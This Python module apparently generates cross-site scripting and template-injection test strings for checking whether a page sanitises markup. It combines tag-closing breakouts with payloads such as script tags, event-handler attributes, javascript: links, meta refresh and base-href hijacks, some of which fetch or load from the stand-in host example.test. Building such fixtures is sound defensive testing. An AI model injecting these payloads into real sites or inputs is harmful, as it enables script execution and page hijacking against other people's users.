"""Texts that would do something if a page took them for markup, generated from what they could be put into and what they would do."""

from __future__ import annotations

import random

__all__ = ["RAN", "payloads"]

#: What each script would do; a page in which none ran still has its own title.
RAN = "document.title='it ran'"
DOES = (RAN, "alert(1)", "window.open('//example.test')", "fetch('//example.test/x')")
MARKUP = (
    "<script>{0}</script>",
    "<ScRiPt\n>{0}</sCrIpT >",
    '<img src=x onerror="{0}">',
    "<img src=//example.test/a.png>",
    '<svg onload="{0}"><script>{0}</script></svg>',
    '<svg><a xlink:href="javascript:{0}"><text y=20>x</text></a></svg>',
    '<a href="javascript:{0}">x</a>',
    '<iframe srcdoc="<script>parent.{0}</script>"></iframe>',
    "<iframe src=//example.test></iframe>",
    "<link rel=stylesheet href=//example.test/s.css>",
    "<style>@import '//example.test/s.css'; body {{ display: none }}</style>",
    '<meta http-equiv=refresh content="0;url=//example.test">',
    "<base href=//example.test/>",
    '<form action=//example.test><input autofocus onfocus="{0}"></form>',
    '<body onload="{0}">',
    '<details open ontoggle="{0}">x</details>',
    "<math><mtext><script>{0}</script></mtext></math>",
    "<template><script>{0}</script></template>",
    '<object data="data:text/html,<script>{0}</script>"></object>',
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "{{{{ ''.__class__ }}}}{{% set x = 1 %}}",
    "${{success}} $success $$view",
)
#: What a value may be put into by a page, and how it would get out of there.
OUT_OF = (
    "",
    '">',
    "'>",
    "-->",
    "</td></table>",
    "</style>",
    "</title>",
    "</script>",
    "]]>",
    "</textarea>",
    '" onmouseover="',
    "</svg>",
)


def payloads(seed: int, count: int) -> list[str]:
    """``count`` different texts, each kind among them if they are enough."""
    draw = random.Random(seed)
    every = [way + text.format(does) for way in OUT_OF for text in MARKUP for does in DOES]
    first = [draw.choice(OUT_OF) + text.format(draw.choice(DOES)) for text in MARKUP]
    return list(dict.fromkeys([*first, *draw.sample(every, min(count, len(every)))]))[:count]
